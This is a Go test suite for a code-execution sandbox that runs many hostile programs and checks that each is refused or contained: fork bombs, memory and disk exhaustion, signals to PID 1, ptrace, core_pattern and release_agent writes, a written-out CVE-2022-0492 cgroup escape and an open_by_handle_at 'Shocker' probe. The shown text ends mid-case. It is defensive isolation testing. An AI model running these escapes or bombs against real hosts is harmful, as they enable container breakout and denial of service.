package hostile

import (
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/corralhq/corral/sandbox"
)

// prelude starts every python case: raw system calls through ctypes
// (x86_64 numbers), and report/attempt, which print key=value lines the
// checks read.
const prelude = `import ctypes, errno, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
TOKEN = '@TOKEN@'
def report(key, value):
    print('%s=%s' % (key, value), flush=True)
def errname(e):
    return errno.errorcode.get(e, str(e))
def arg(a):
    return ctypes.c_long(a) if isinstance(a, int) else a
def sc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[arg(a) for a in args])
    return 'ok' if r >= 0 else errname(ctypes.get_errno())
def attempt(key, fn):
    try:
        v = fn()
        report(key, 'ok' if v is None else 'ok:%s' % (v,))
    except OSError as e:
        report(key, errname(e.errno) if e.errno else type(e).__name__)
    except Exception as e:
        report(key, type(e).__name__)
def cstr(s):
    return ctypes.c_char_p(s.encode())
def name_process():
    libc.prctl(15, cstr(TOKEN[:15]), 0, 0, 0)  # PR_SET_NAME: the host looks for it
def read_probe(path):
    if os.path.isdir(path):
        return 'dir:' + ','.join(sorted(os.listdir(path)))
    with open(path, 'rb') as f:
        return 'len=%d' % len(f.read(1 << 20))
def connect(key, addr, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    def f():
        s = socket.socket(family, kind)
        s.settimeout(3)
        try:
            s.connect(addr)
        except socket.timeout:
            raise OSError(errno.ETIMEDOUT, 'timed out')
        finally:
            s.close()
    attempt(key, f)
`

// Errno sets the checks accept. Where gVisor differs from Linux (ENOSYS
// for what it does not implement, EACCES where Linux says EROFS), the
// checks assert the meaningful property, refusal, not one errno.
var (
	denied      = []string{"EPERM", "ENOSYS", "EACCES"}
	noFile      = []string{"EACCES", "EROFS", "EPERM", "ENOENT", "ENXIO", "ENODEV", "ENOTDIR"}
	unreachable = []string{"ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED", "ETIMEDOUT", "EADDRNOTAVAIL"}
	emptyOrNone = append([]string{"ok:len=0", "ok:dir:"}, noFile...)
)

// Resource limits the heavy cases run under.
const (
	bombTimeoutMS = 3000
	smallMemoryMB = 128
	smallDiskMB   = 64
)

// cases are the hostile programs. Each runs on both tiers; host checks
// (see host.check and checkGone) follow every one of them.
var cases = []hostileCase{
	// Processes and threads.
	{name: "fork-bomb", lang: "c", heavy: true, watch: true, verdict: sandbox.ErrResourceLimit,
		limits: sandbox.Limits{TimeoutMS: bombTimeoutMS},
		code:   "#include <unistd.h>\nint main(void) { for (;;) fork(); }\n"},
	{name: "fork-bomb-shell", lang: "bash", heavy: true, watch: true, verdict: sandbox.ErrResourceLimit,
		// Each shell of this bomb exits as soon as it has forked; on
		// gVisor, where only a probe every 500 ms sees the process
		// table, the table may never look full before the deadline.
		alsoOn: map[sandbox.Isolation]sandbox.ErrorType{sandbox.IsolationGVisor: sandbox.ErrTimeout},
		limits: sandbox.Limits{TimeoutMS: bombTimeoutMS},
		// The bomb runs in the background while the script waits: Corral
		// ends what a program leaves behind when it exits.
		code: ":(){ :|:& };:\nsleep 60"},
	{name: "fork-bomb-classic", lang: "bash", heavy: true,
		// The program: the classic bash fork bomb, then sleep 3.
		// Whether it exits 0 is a race the program runs against itself:
		// the script's own fork of sleep can find the sandbox full, and
		// bash then retries for 15 s and gives up. Either way its record
		// and summary name the process limit.
		alsoOn: map[sandbox.Isolation]sandbox.ErrorType{sandbox.IsolationContainer: sandbox.ErrResourceLimit,
			sandbox.IsolationGVisor: sandbox.ErrResourceLimit},
		limits: sandbox.Limits{TimeoutMS: 30000, MemoryMB: 512, DiskMB: smallDiskMB},
		code:   ":(){ :|:& };: ; sleep 3",
		check: func(t *testing.T, o *outcome) {
			h := o.limitNamed(t, sandbox.LimitProcesses)
			if o.res.Status == sandbox.StatusSuccess && (o.res.ExitCode == nil || *o.res.ExitCode != 0) {
				t.Errorf("a success with exit code %v", o.res.ExitCode)
			}
			if o.tier == sandbox.IsolationContainer && h.Count < 1 {
				t.Errorf("no refused fork counted on the container tier: %+v", h)
			}
		}},
	{name: "fork-bomb-recovered", lang: "bash", heavy: true,
		// The same bomb in the background of a script that surely exits
		// 0: the script forks twice, its sleep and one subshell that runs
		// the bomb, both before the sandbox fills, then only waits (a
		// builtin); Corral ends what it leaves behind. (Calling the bomb
		// from the script itself would fork each side of its pipe from
		// the script: the first side can fill the sandbox before the
		// second fork, which bash then retries for 15 s and gives up,
		// exiting 1.) A success whose record and summary name the process
		// limit. On gVisor nothing counts the refused
		// forks; the probe sees the sandbox full while bash retries them.
		// (fork-bomb and fork-bomb-shell watch the host under a bomb.)
		limits: sandbox.Limits{TimeoutMS: 20000, MemoryMB: 512, DiskMB: smallDiskMB},
		code:   "sleep 3 & s=$!\n( :(){ :|:& };: ) &\nwait $s",
		check: func(t *testing.T, o *outcome) {
			h := o.limitHit(t, sandbox.LimitProcesses)
			if o.tier == sandbox.IsolationContainer && h.Count < 1 {
				t.Errorf("no refused fork counted on the container tier: %+v", h)
			}
		}},
	{name: "thread-bomb", lang: "python", heavy: true, watch: true, verdict: sandbox.ErrResourceLimit,
		limits: sandbox.Limits{TimeoutMS: bombTimeoutMS},
		code: `import threading
name_process()
while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        pass
`},
	{name: "zombies", lang: "python",
		code: `name_process()
for _ in range(30):  # gVisor counts zombies against its 85 tasks
    if os.fork() == 0:
        os._exit(0)
time.sleep(0.3)
def state(p):
    try:
        return open('/proc/%s/stat' % p).read().rsplit(')', 1)[1].split()[0]
    except OSError:
        return '?'
report('zombies', sum(1 for p in os.listdir('/proc') if p.isdigit() and state(p) == 'Z'))
`,
		check: func(t *testing.T, o *outcome) { o.atLeast(t, "zombies", 1) }},
	{name: "double-fork-daemon", lang: "python",
		code: `if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        name_process()
        time.sleep(3600)
    os._exit(0)
os.wait()
report('daemon', 'started')
`,
		check: func(t *testing.T, o *outcome) { o.want(t, "daemon", "started") }},
	{name: "nohup-daemon", lang: "bash",
		code:  "setsid nohup bash -c 'exec -a @TOKEN@ sleep 3600' </dev/null >/dev/null 2>&1 &\ndisown\necho daemon=started",
		check: func(t *testing.T, o *outcome) { o.want(t, "daemon", "started") }},
	{name: "kill-everything", lang: "bash",
		// kill -1 reaches every process the user may signal: in the
		// sandbox's pid namespace only, never the host's uid-1000
		// bystander.
		code:  "sleep 1000 &\nkill -9 -1\necho kill=$?\necho survived=yes",
		check: func(t *testing.T, o *outcome) { o.want(t, "survived", "yes") }},
	{name: "signal-init", lang: "python",
		// Every signal but those below, which have cases of their own.
		code: `sent = 0
for s in range(1, 65):
    if s in (7, 8, 9, 11, 19, 32, 34):
        continue
    try:
        os.kill(1, s)
        sent += 1
    except OSError:
        pass
time.sleep(0.3)
report('sent', sent)
report('alive', 'yes')
`,
		check: func(t *testing.T, o *outcome) { o.want(t, "alive", "yes") }},
	{name: "signal-init-sync", lang: "python",
		code:  signalInit(7, 8, 11),
		check: func(t *testing.T, o *outcome) { o.want(t, "alive", "yes") }},
	{name: "signal-init-kill", lang: "python",
		code:  signalInit(9),
		check: func(t *testing.T, o *outcome) { o.want(t, "alive", "yes") }},
	{name: "signal-init-stop", lang: "python",
		limits: sandbox.Limits{TimeoutMS: 5000},
		code:   signalInit(19),
		check:  func(t *testing.T, o *outcome) { o.want(t, "alive", "yes") }},
	{name: "signal-init-rt", lang: "python",
		code:  signalInit(32, 34),
		check: func(t *testing.T, o *outcome) { o.want(t, "alive", "yes") }},
	{name: "signal-init-evasions", lang: "python",
		// Ways around a filter that looks for PID 1: pid values whose
		// upper 32 bits are set (the kernel reads a pid_t), tgkill, tkill,
		// rt_sigqueueinfo, and a pidfd from opening /proc/1.
		code: sigSyscalls + `call('kill_wide', SYS_kill, (1 << 32) | 1, 9)
call('tkill_wide', SYS_tkill, (1 << 32) | 1, 9)
call('tgkill', SYS_tgkill, 1, 1, 9)
siginfo = ctypes.create_string_buffer(128)
call('rt_sigqueueinfo', SYS_rt_sigqueueinfo, 1, 9, ctypes.addressof(siginfo))
call('pidfd_open', SYS_pidfd_open, 1, 0)
try:
    fd = os.open('/proc/1', os.O_RDONLY | os.O_DIRECTORY)
    call('pidfd_send_signal', SYS_pidfd_send_signal, fd, 9, 0, 0)
except OSError as e:
    report('proc1', errname(e.errno))
time.sleep(0.3)
report('alive', 'yes')
`,
		check: func(t *testing.T, o *outcome) {
			o.want(t, "alive", "yes")
			o.nonZero(t, "kill_wide", "tkill_wide", "tgkill", "rt_sigqueueinfo", "pidfd_open")
		}},
	{name: "signal-agent-threads", lang: "python", alsoOn: map[sandbox.Isolation]sandbox.ErrorType{sandbox.IsolationGVisor: sandbox.ErrRuntime},
		// The agent's other threads by TID. Linux shields all of init's
		// threads; gVisor does not, and no filter can tell the agent's TIDs
		// from the program's, so there the program ends its own sandbox and
		// the record must say so: its verdict, not a retryable Corral
		// failure.
		code: sigSyscalls + `try:
    tids = [int(t) for t in os.listdir('/proc/1/task')]
except OSError as e:
    tids = []
    report('tasks', errname(e.errno))
report('threads', len(tids))
sys.stdout.flush()
for tid in tids:
    if tid != 1:
        call('kill_tid', SYS_kill, tid, 9)
        call('tkill_tid', SYS_tkill, tid, 9)
time.sleep(0.3)
report('alive', 'yes')
`,
		check: func(t *testing.T, o *outcome) {
			if o.tier == sandbox.IsolationGVisor && o.res.Error != nil {
				if o.res.Error.Type != sandbox.ErrRuntime || o.res.Error.Retryable || !strings.Contains(o.res.Error.Message, "killed the sandbox's agent") {
					t.Errorf("agent killed by TID: error %+v, want a non-retryable runtime_error that says so", o.res.Error)
				}
				return
			}
			// Surviving proves something only if the agent's threads were
			// listed, and so sent the signals.
			o.atLeast(t, "threads", 2)
			o.want(t, "alive", "yes")
		}},

	// Memory.
	{name: "memory-balloon", lang: "python", heavy: true, verdict: sandbox.ErrOOM,
		limits: sandbox.Limits{MemoryMB: smallMemoryMB},
		code: `chunks = []
while True:
    chunks.append(b'x' * (16 << 20))
`},
	{name: "memory-child-recovered", lang: "python", heavy: true,
		// A child killed at the memory limit, its parent going on to exit
		// 0: a success that lists the memory limit. On gVisor the host
		// kills the sentry, which ends the sandbox: oom, listed as well.
		alsoOn: map[sandbox.Isolation]sandbox.ErrorType{sandbox.IsolationGVisor: sandbox.ErrOOM},
		limits: sandbox.Limits{MemoryMB: smallMemoryMB},
		code: `import subprocess
r = subprocess.run([sys.executable, '-c', 'b = bytearray(1 << 30)'])
report('child', r.returncode)
`,
		check: func(t *testing.T, o *outcome) {
			if o.res.Status == sandbox.StatusSuccess {
				o.want(t, "child", "-9")
				if h := o.limitHit(t, sandbox.LimitMemory); h.Count < 1 {
					t.Errorf("no OOM kill counted: %+v", h)
				}
				return
			}
			if len(o.res.LimitsHit) == 0 || o.res.LimitsHit[0].Limit != sandbox.LimitMemory {
				t.Errorf("oom without the memory limit in limits_hit: %+v", o.res.LimitsHit)
			}
		}},
	{name: "mmap-populate", lang: "c", heavy: true, verdict: sandbox.ErrOOM,
		limits: sandbox.Limits{MemoryMB: smallMemoryMB},
		code: `#include <stdio.h>
#include <sys/mman.h>
int main(void) {
	for (int i = 0; i < 64; i++) {
		void *p = mmap(0, 64 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
		if (p == MAP_FAILED) { perror("mmap"); return 1; }
	}
	puts("mapped 4 GiB");
	return 0;
}
`},
	{name: "mlock", lang: "python",
		code: `import mmap, resource
buf = mmap.mmap(-1, 16 << 20)
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
r = libc.mlock(ctypes.c_void_p(addr), ctypes.c_size_t(16 << 20))
report('mlock', 'ok' if r == 0 else errname(ctypes.get_errno()))
r = libc.mlockall(3)  # MCL_CURRENT | MCL_FUTURE
report('mlockall', 'ok' if r == 0 else errname(ctypes.get_errno()))
attempt('raise_memlock', lambda: resource.setrlimit(resource.RLIMIT_MEMLOCK, (1 << 30, 1 << 30)))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, []string{"ENOMEM", "EPERM", "EAGAIN"}, "mlock", "mlockall")
			o.notOK(t, "raise_memlock")
		}},

	// Disk.
	{name: "disk-workspace", lang: "bash", heavy: true, verdict: sandbox.ErrResourceLimit,
		limits: sandbox.Limits{DiskMB: smallDiskMB},
		code:   "dd if=/dev/zero of=/workspace/big bs=1M count=2048"},
	{name: "disk-tmp", lang: "python", heavy: true, verdict: sandbox.ErrResourceLimit,
		limits: sandbox.Limits{DiskMB: smallDiskMB},
		code: `with open('/tmp/big', 'wb') as f:
    while True:
        f.write(b'x' * (1 << 20))
`},
	{name: "disk-full-recovered", lang: "python", heavy: true,
		// Fills the disk, catches ENOSPC, keeps the file and exits 0: a
		// success whose record and summary name the disk limit.
		limits: sandbox.Limits{MemoryMB: 256, DiskMB: smallDiskMB},
		code: `n = 0
try:
    with open('/workspace/big', 'wb') as f:
        while True:
            f.write(b'x' * (1 << 20))
            f.flush()
            n += 1
except OSError as e:
    report('stopped_by', errname(e.errno))
report('mib', n)
`,
		check: func(t *testing.T, o *outcome) {
			o.want(t, "stopped_by", "ENOSPC")
			o.limitHit(t, sandbox.LimitDisk)
		}},
	{name: "disk-inodes", lang: "python", heavy: true, verdict: sandbox.ErrResourceLimit,
		limits: sandbox.Limits{DiskMB: 16},
		code: `os.makedirs('/workspace/i')
i = 0
while True:
    open('/workspace/i/%d' % i, 'w').close()
    i += 1
`},
	{name: "dev-shm", lang: "python",
		// /dev/shm is a 64 MiB tmpfs whose pages count against the memory
		// limit, and noexec.
		code: `n = 0
try:
    with open('/dev/shm/fill', 'wb') as f:
        while True:
            f.write(b'x' * (1 << 20))
            f.flush()
            n += 1
except OSError as e:
    report('stopped_by', errname(e.errno))
report('mib', n)
os.unlink('/dev/shm/fill')
with open('/dev/shm/run', 'w') as f:
    f.write('#!/bin/sh\necho ran\n')
os.chmod('/dev/shm/run', 0o755)
attempt('exec', lambda: os.execv('/dev/shm/run', ['run']))
`,
		check: func(t *testing.T, o *outcome) {
			o.want(t, "stopped_by", "ENOSPC")
			o.atMost(t, "mib", 64)
			o.in(t, []string{"EACCES", "EPERM"}, "exec")
		}},

	// Output.
	{name: "output-flood", lang: "python", heavy: true,
		limits: sandbox.Limits{TimeoutMS: 240_000},
		code: `line = b'y' * 1023 + b'\n'
chunk = line * 1024
w = sys.stdout.buffer
w.write(b'HEAD\n')
for _ in range(@FLOOD_MIB@):
    w.write(chunk)
w.write(b'TAIL\n')
`,
		check: checkFlood},
	{name: "invalid-utf8-line", lang: "python", heavy: true,
		limits: sandbox.Limits{TimeoutMS: 240_000},
		// Invalid UTF-8 (lone continuation bytes, an overlong NUL, a
		// surrogate), terminal escapes (clear screen, set title, the
		// alternate screen, an 8-bit CSI), one line of 1 GiB.
		code: `pat = b'\xff\xfe\x1b[2J\x1b]0;owned\x07\xc0\x80\xed\xa0\x80\x9b31m\x1b[?1049h\x80'
chunk = (pat * ((1 << 20) // len(pat) + 1))[:1 << 20]
w = sys.stdout.buffer
for _ in range(1024):
    w.write(chunk)
`,
		check: func(t *testing.T, o *outcome) {
			r := o.res
			if r.StdoutBytes != 1<<30 || r.StdoutLines != 1 || !r.StdoutTruncated {
				t.Errorf("bytes %d lines %d truncated %v; want %d, 1, true", r.StdoutBytes, r.StdoutLines, r.StdoutTruncated, 1<<30)
			}
			if !utf8.ValidString(r.Stdout) {
				t.Error("the record's stdout is not valid UTF-8")
			}
			if len(r.Stdout) > 3*64<<10+128 {
				t.Errorf("the record keeps %d bytes of stdout", len(r.Stdout))
			}
		}},

	// Time.
	{name: "busy-loop", lang: "c", verdict: sandbox.ErrTimeout,
		limits: sandbox.Limits{TimeoutMS: 1000},
		code:   "int main(void) { for (;;) ; }\n"},
	{name: "sleep", lang: "bash", verdict: sandbox.ErrTimeout,
		limits: sandbox.Limits{TimeoutMS: 1000},
		code:   "sleep 3600"},
	{name: "sleep-ignoring-signals", lang: "bash", verdict: sandbox.ErrTimeout,
		limits: sandbox.Limits{TimeoutMS: 1000},
		code:   "trap '' HUP INT QUIT TERM USR1 USR2\nwhile :; do sleep 3600 & wait; done"},

	// File descriptors.
	{name: "fd-exhaustion", lang: "python",
		code: `import resource
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
attempt('raise_nofile', lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20)))
attempt('raise_to_hard', lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard)))
fds = []
try:
    while True:
        fds.append(os.open('/dev/null', os.O_RDONLY))
except OSError as e:
    report('stopped_by', errname(e.errno))
report('opened', len(fds))
`,
		check: func(t *testing.T, o *outcome) {
			o.notOK(t, "raise_nofile")
			o.want(t, "stopped_by", "EMFILE")
			o.atMost(t, "opened", 4096)
		}},
	{name: "leaked-fds", lang: "c",
		code: `#include <fcntl.h>
#include <stdio.h>
#include <sys/resource.h>
int main(void) {
	struct rlimit rl;
	getrlimit(RLIMIT_NOFILE, &rl);
	for (int fd = 0; fd < (int)rl.rlim_max; fd++)
		if (fcntl(fd, F_GETFD) != -1)
			printf("fd=%d\n", fd);
	return 0;
}
`,
		check: func(t *testing.T, o *outcome) {
			if got := strings.Fields(strings.ReplaceAll(o.res.Stdout, "\n", " ")); strings.Join(got, " ") != "fd=0 fd=1 fd=2" {
				t.Errorf("open descriptors at start: %v, want 0, 1, 2", got)
			}
		}},
	{name: "leaked-fds-wrapper", lang: "python",
		// The python wrapper's status fd 3 is closed before user code.
		code: `import resource
open_fds = []
for fd in range(3, resource.getrlimit(resource.RLIMIT_NOFILE)[1]):
    try:
        os.fstat(fd)
        open_fds.append(fd)
    except OSError:
        pass
report('extra', ','.join(map(str, open_fds)) or 'none')
`,
		check: func(t *testing.T, o *outcome) { o.want(t, "extra", "none") }},

	// Tracing other processes.
	{name: "ptrace", lang: "python",
		code: `report('traceme', sc(101, 0, 0, 0, 0))
report('attach_init', sc(101, 16, 1, 0, 0))
report('seize_init', sc(101, 0x4206, 1, 0, 0))
pid = os.fork()
if pid == 0:
    time.sleep(30)
    os._exit(0)
report('attach_child', sc(101, 16, pid, 0, 0))
os.kill(pid, 9)
os.waitpid(pid, 0)
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "traceme", "attach_init", "seize_init", "attach_child")
		}},
	{name: "process-vm", lang: "python",
		code: `class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
buf = ctypes.create_string_buffer(b'secret', 64)
io = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
pid = os.fork()
if pid == 0:
    time.sleep(30)
    os._exit(0)
for key, target in (('init', 1), ('child', pid)):
    report('readv_' + key, sc(310, target, ctypes.byref(io), 1, ctypes.byref(io), 1, 0))
    report('writev_' + key, sc(311, target, ctypes.byref(io), 1, ctypes.byref(io), 1, 0))
os.kill(pid, 9)
os.waitpid(pid, 0)
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "readv_init", "writev_init", "readv_child", "writev_child")
		}},

	// Reading what the host knows.
	{name: "proc-environ", lang: "python",
		// The agent is PID 1 and non-dumpable; the host's environment
		// holds a canary (TestMain) that no output may show.
		code: `for key, path in (('init', '/proc/1/environ'), ('init_task', '/proc/1/task/1/environ'), ('init_mem', '/proc/1/mem'), ('init_fd0', '/proc/1/fd/0'), ('init_root', '/proc/1/root/.corral')):
    attempt(key, lambda: open(path, 'rb').read(4096).decode('latin-1'))
print(open('/proc/self/environ', 'rb').read().decode('latin-1'))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, []string{"EACCES", "EPERM", "ENOENT"}, "init", "init_task", "init_mem", "init_fd0", "init_root")
		}},
	{name: "proc-kcore", lang: "python", code: "attempt('kcore', lambda: read_probe('/proc/kcore'))",
		check: func(t *testing.T, o *outcome) { o.in(t, emptyOrNone, "kcore") }},
	{name: "proc-keys", lang: "python",
		code:  "attempt('keys', lambda: read_probe('/proc/keys'))\nattempt('keys_raw', lambda: open('/proc/keys').read())",
		check: func(t *testing.T, o *outcome) { o.in(t, emptyOrNone, "keys") }},
	{name: "proc-timer-list", lang: "python", code: "attempt('timer_list', lambda: read_probe('/proc/timer_list'))",
		check: func(t *testing.T, o *outcome) { o.in(t, emptyOrNone, "timer_list") }},
	{name: "proc-sched-debug", lang: "python", code: "attempt('sched_debug', lambda: read_probe('/proc/sched_debug'))",
		check: func(t *testing.T, o *outcome) { o.in(t, emptyOrNone, "sched_debug") }},
	{name: "sys-firmware", lang: "python",
		code:  "attempt('firmware', lambda: read_probe('/sys/firmware'))\nattempt('acpi', lambda: read_probe('/sys/firmware/acpi/tables'))",
		check: func(t *testing.T, o *outcome) { o.in(t, emptyOrNone, "firmware", "acpi") }},
	{name: "kernel-symbols", lang: "python",
		code: `attempt('kallsyms', lambda: sum(1 for l in open('/proc/kallsyms') if not l.startswith('0000000000000000')))
attempt('sys_kernel', lambda: read_probe('/sys/kernel'))
attempt('kmsg', lambda: read_probe('/proc/kmsg'))
attempt('vmallocinfo', lambda: read_probe('/proc/vmallocinfo'))
`,
		check: func(t *testing.T, o *outcome) {
			// No symbol with a real address.
			o.in(t, []string{"ok:0", "ENOENT", "EACCES", "EPERM"}, "kallsyms")
			o.in(t, emptyOrNone, "sys_kernel", "kmsg", "vmallocinfo")
		}},

	// Writing kernel settings.
	{name: "core-pattern", lang: "python",
		code: `def w():
    with open('/proc/sys/kernel/core_pattern', 'w') as f:
        f.write('|/tmp/pwn %p')
attempt('write', w)
attempt('open_rw', lambda: os.close(os.open('/proc/sys/kernel/core_pattern', os.O_RDWR)))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, noFile, "write", "open_rw") }},
	{name: "sysrq-trigger", lang: "python",
		code: `def w():
    with open('/proc/sysrq-trigger', 'w') as f:
        f.write('c')
attempt('write', w)
`,
		check: func(t *testing.T, o *outcome) {
			if o.root && o.tier == sandbox.IsolationGVisor {
				// gVisor's own procfs, which root may open: the write
				// fails there (EIO) and reaches no host.
				o.in(t, append([]string{"EIO"}, noFile...), "write")
				return
			}
			o.in(t, noFile, "write")
		}},
	{name: "cgroup-files", lang: "python",
		code: `targets = {
    'procs': ('/sys/fs/cgroup/cgroup.procs', '1'),
    'memory_limit': ('/sys/fs/cgroup/memory/memory.limit_in_bytes', '-1'),
    'memory_max': ('/sys/fs/cgroup/memory.max', 'max'),
    'pids_max': ('/sys/fs/cgroup/pids/pids.max', 'max'),
    'release_agent': ('/sys/fs/cgroup/memory/release_agent', '/tmp/pwn'),
    'notify': ('/sys/fs/cgroup/memory/notify_on_release', '1'),
    'subtree': ('/sys/fs/cgroup/unified/cgroup.subtree_control', '+pids'),
}
for key, (path, data) in targets.items():
    def w():
        with open(path, 'w') as f:
            f.write(data)
    attempt(key, w)
os.makedirs('/tmp/cg', exist_ok=True)
report('mount_cgroup', sc(165, cstr('cgroup'), cstr('/tmp/cg'), cstr('cgroup'), 0, cstr('memory')))
report('mount_cgroup2', sc(165, cstr('cgroup2'), cstr('/tmp/cg'), cstr('cgroup2'), 0, 0))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, noFile, "procs", "memory_limit", "memory_max", "pids_max", "release_agent", "notify", "subtree")
			o.in(t, denied, "mount_cgroup", "mount_cgroup2")
		}},

	// Mounts and namespaces.
	{name: "mount", lang: "python",
		code: `os.makedirs('/tmp/m', exist_ok=True)
report('tmpfs', sc(165, cstr('none'), cstr('/tmp/m'), cstr('tmpfs'), 0, 0))
report('bind', sc(165, cstr('/usr'), cstr('/tmp/m'), 0, 0x1000, 0))         # MS_BIND
report('remount_root_rw', sc(165, 0, cstr('/'), 0, 0x20, 0))              # MS_REMOUNT
report('remount_proc', sc(165, 0, cstr('/proc'), 0, 0x20, 0))
report('umount_proc', sc(166, cstr('/proc'), 2))                          # MNT_DETACH
report('umount_agent', sc(166, cstr('/.corral/agent'), 2))
report('pivot_root', sc(155, cstr('/tmp'), cstr('/tmp/m')))
report('chroot', sc(161, cstr('/tmp')))
attempt('write_root', lambda: open('/pwn', 'w').close())
attempt('write_usr', lambda: open('/usr/pwn', 'w').close())
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "tmpfs", "bind", "remount_root_rw", "remount_proc", "umount_proc", "umount_agent", "pivot_root", "chroot")
			if !o.root {
				// Root's own system is writable (a live sandbox's
				// overlay): whatever it writes stays in the sandbox,
				// which the host check after every case verifies.
				o.in(t, noFile, "write_root", "write_usr")
			}
		}},
	{name: "unshare-release-agent", lang: "python",
		// The CVE-2022-0492 route: a new user namespace grants
		// CAP_SYS_ADMIN over a fresh cgroup mount, whose release_agent
		// the host kernel would run. runc refuses every namespace; on
		// gVisor clone3 (allowed, see bundle.GVisor) makes namespaces in
		// the sentry, where mount is still refused and no host cgroup is
		// in reach.
		code: `NEWUSER, NEWNS, NEWCGROUP, NEWNET, NEWPID = 0x10000000, 0x20000, 0x02000000, 0x40000000, 0x20000000
for key, flags in (('user', NEWUSER), ('user_ns_cgroup', NEWUSER | NEWNS | NEWCGROUP), ('net', NEWNET), ('pid', NEWPID), ('time', 0x80)):
    report('unshare_' + key, sc(272, flags))
def escape():
    out = []
    try:
        open('/proc/self/setgroups', 'w').write('deny')
        open('/proc/self/uid_map', 'w').write('0 1000 1')
        out.append('uid_map:ok')
    except OSError as e:
        out.append('uid_map:' + errname(e.errno))
    os.makedirs('/tmp/cg', exist_ok=True)
    r = libc.mount(cstr('cgroup'), cstr('/tmp/cg'), cstr('cgroup'), 0, cstr('memory'))
    out.append('mount:' + ('ok' if r == 0 else errname(ctypes.get_errno())))
    if r == 0:
        try:
            open('/tmp/cg/release_agent', 'w').write('/tmp/pwn')
            out.append('release_agent:ok')
        except OSError as e:
            out.append('release_agent:' + errname(e.errno))
    return ' '.join(out)
def clone(key, nr, flags):
    if nr == 56:
        pid = libc.syscall(ctypes.c_long(56), ctypes.c_long(flags | 17), *[ctypes.c_long(0)] * 4)
    else:
        args = ctypes.create_string_buffer(struct.pack('QQQQQQQQ', flags, 0, 0, 0, 17, 0, 0, 0), 64)
        pid = libc.syscall(ctypes.c_long(435), args, ctypes.c_long(64))
    if pid == 0:
        with open('/tmp/child', 'w') as f:
            f.write(escape())
        os._exit(0)
    if pid < 0:
        report(key, errname(ctypes.get_errno()))
        return
    os.waitpid(pid, 0)
    report(key, 'child ' + open('/tmp/child').read())
clone('clone_user', 56, NEWUSER)
clone('clone3_user', 435, NEWUSER)
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "unshare_user", "unshare_user_ns_cgroup", "unshare_net", "unshare_pid", "unshare_time", "clone_user")
			if v := o.kv["clone3_user"]; strings.HasPrefix(v, "child ") {
				// Only gVisor gets here; its namespace must not give a mount.
				if o.tier != sandbox.IsolationGVisor || !strings.Contains(v, "mount:EPERM") || strings.Contains(v, "release_agent") {
					t.Errorf("clone3 in a new user namespace: %s", v)
				}
			} else {
				o.in(t, denied, "clone3_user")
			}
		}},
	{name: "unshare-tool", lang: "bash",
		code: `unshare -UrmC sh -c 'mkdir -p /tmp/cg && mount -t cgroup -o memory cgroup /tmp/cg && echo /tmp/pwn > /tmp/cg/release_agent'
echo unshare=$?
unshare -n true; echo unshare_net=$?
nsenter -t 1 -m -n true; echo nsenter=$?`,
		check: func(t *testing.T, o *outcome) { o.nonZero(t, "unshare", "unshare_net", "nsenter") }},
	{name: "setns", lang: "python",
		code: `for ns in ('mnt', 'net', 'pid', 'user', 'uts', 'ipc', 'cgroup'):
    try:
        fd = os.open('/proc/self/ns/' + ns, os.O_RDONLY)
    except OSError as e:
        report(ns, errname(e.errno))
        continue
    report(ns, sc(308, fd, 0))
    os.close(fd)
try:
    report('init_ns', sc(308, os.open('/proc/1/ns/mnt', os.O_RDONLY), 0))
except OSError as e:
    report('init_ns', errname(e.errno))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, append([]string{"ENOENT"}, denied...), "mnt", "net", "pid", "user", "uts", "ipc", "cgroup", "init_ns")
		}},
	{name: "new-mount-api", lang: "python",
		code: `report('fsopen', sc(430, cstr('tmpfs'), 0))
report('fspick', sc(433, -100, cstr('/'), 0))
report('open_tree', sc(428, -100, cstr('/usr'), 1))       # OPEN_TREE_CLONE
report('move_mount', sc(429, -100, cstr('/usr'), -100, cstr('/tmp'), 0))
report('mount_setattr', sc(442, -100, cstr('/'), 0, ctypes.create_string_buffer(32), 32))
report('fsconfig', sc(431, 0, 6, 0, 0, 0))
report('fsmount', sc(432, 0, 0, 0))
`,
		check: func(t *testing.T, o *outcome) {
			o.in(t, denied, "fsopen", "fspick", "open_tree", "move_mount", "mount_setattr", "fsconfig", "fsmount")
		}},
	{name: "open-by-handle", lang: "python",
		// "Shocker": a file handle names any inode of the host file system.
		code: `handle = ctypes.create_string_buffer(struct.pack('II', 8, 1) + struct.pack('Q', 2) + bytes(120))
mount_id = ctypes.c_int()
report('name_to_handle_at', sc(303, -100, cstr('/usr'), handle, ctypes.byref(mount_id), 0))
fd = os.open('/usr', os.O_RDONLY)
report('open_by_handle_at', sc(304, fd, handle, 0))
`,
		check: func(t *testing.T, o *outcome) { o.in(t, denied, "name_to_handle_at", "open_by_handle_at") }},

	// Kernel interfaces a program has no business with.
	{name: "keyctl", lang: "python",
		code: `report('add_key', sc(248, cstr('user'), cstr('k'), cstr('v'), 1, -2))   # KEY_SPEC_PROCESS_KEYRING
report('request_key', sc(249, cstr('user'), cstr('k'), 0, 0))
report('join_session', sc(250, 1, cstr('pwn')))                            # KEYCTL_JOIN_SESSION_KEYRING
